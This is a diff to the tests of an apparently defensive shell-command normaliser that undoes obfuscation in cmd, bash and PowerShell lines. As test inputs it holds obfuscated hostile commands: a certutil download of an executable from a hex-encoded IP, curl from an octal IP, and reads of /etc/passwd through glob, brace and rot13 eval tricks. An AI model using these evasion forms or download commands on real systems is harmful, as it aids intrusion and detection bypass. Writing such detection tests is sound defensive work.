@@ -44,7 +44,7 @@ INVERTED = {
     *(
         f"cmd/{n}"
         for n in "caret quotes arg-insertion random-case separators env-substring set-concat delayed for-loop "
-        "reverse substitution char-insertion".split()
+        "reverse substitution char-insertion path-transform url-transform".split()
     ),
     *(
         f"powershell/{n}"
@@ -77,6 +77,15 @@ def _enc(text: str) -> str:
         ),
         ("NeT UsEr", "cmd", "net UsEr", ""),
         ("whoami \u2013all", "cmd", "whoami -all", "Unicode dash -> -"),
+        ("type C:\\Windows\\.\\win.ini", "cmd", "type C:\\Windows\\win.ini", "path . segment removed"),
+        ("type C:\\Win^dows\\Temp\\..\\win.ini", "cmd", "type C:\\Windows\\win.ini", "path detour x\\.. removed"),
+        ("C:/Windows/System32/whoami.exe /all", "cmd", "c:\\windows\\system32\\whoami /all", "path / separators"),
+        (
+            "certutil -urlcache -f http:\\\\0xc0a80105/a.exe a.exe",
+            "cmd",
+            "certutil -urlcache -f http://192.168.1.5/a.exe a.exe",
+            "URL host 0xc0a80105 -> 192.168.1.5",
+        ),
         # PowerShell
         ("Ne`w-Ob`ject Net.WebClient", "powershell", "new-object net.webclient", "backticks removed"),
         ("gci -Force", "powershell", "get-childitem -force", "alias gci -> get-childitem"),
@@ -101,6 +110,8 @@ def _enc(text: str) -> str:
         ("{cat,/etc/passwd}", "bash", "cat /etc/passwd", "brace word split"),
         ("/?in/c?t /etc/passwd", "bash", "cat /etc/passwd", "glob /?in/c?t -> /bin/cat"),
         ("eval \"$(tr a-z n-za-m<<<'png /rgp/cnffjq')\"", "bash", "cat /etc/passwd", "tr translation applied (rot13)"),
+        ("curl -O HTtp://0300.0250.01.05/x", "bash", "curl -O http://192.168.1.5/x", "URL host 0300.0250.01.05"),
+        ("wget hTTp://ExAmple.COM/x", "bash", "wget http://example.com/x", "URL host scheme hTTp -> http"),
     ],
 )
 def test_hand_written_examples(line, shell, normal, step):
@@ -175,6 +186,10 @@ def test_every_engine_technique_is_inverted_or_reported(capsys):
         ("net user", "cmd"),
         ("ipconfig /all", "cmd"),
         ("dir C:\\Windows\\System32", "cmd"),
+        ("cd ..\\build & dir C:\\Users\\Public\\Downloads", "cmd"),
+        ("dir C:\\PROGRA~2\\COMMON~1 /b", "cmd"),  # 8.3 names: installers and old scripts write them
+        ("curl -s http://10.0.0.5:8080/health", "bash"),
+        (".\\build.ps1 -Configuration Release", "powershell"),
         ("netstat -ano | findstr LISTENING", "cmd"),
         ("Get-ChildItem -Path C:\\Users -Recurse | Select-Object Name", "powershell"),
         ("Write-Output 'Hello World'", "powershell"),
@@ -203,6 +218,25 @@ def test_cmd_loops_over_files_and_plain_settings_are_not_reported_as_unrolled_or
         line.lower().replace('"', "").split()
     ), n
     assert normalize("set a=who&&set b=ami&&call %a%%b%", "cmd").steps[0] == "set variable"
+
+
+@pytest.mark.parametrize(
+    ("line", "shell"),
+    [
+        ('ssh -o ControlPath="$SOCK" -MNf "$@"', "bash"),  # "$@" passes the arguments on: not slipped into a word
+        ('diff "${@:3}" <(sort "$1")', "bash"),
+        ('echo "$IFS"', "bash"),
+        ('for /l %i in (1,1,254) do ping -n 1 10.0.0.%i | find "TTL="', "cmd"),  # builds no command
+        ('find . \u2013name "*.txt"', "bash"),  # a dash pasted from a web page: bash does not read it as -
+        ('Write-Host "done \u2014 all good"', "powershell"),
+        ("powershell -NoProfile -File .\\Deploy.ps1", "cmd"),
+    ],
+)
+def test_what_scripts_and_administrators_write_is_not_reported(line, shell):
+    n = normalize(line)
+    assert n.shell == shell and not n.steps, n
+    assert normalize("c$@at x", "bash").steps and normalize('c"$@"at x', "bash").normal == "cat x"
+    assert normalize("for %a in (who) do %aami", "cmd").normal == "whoami"
 
 
 def _cosmetic(text: str) -> str:
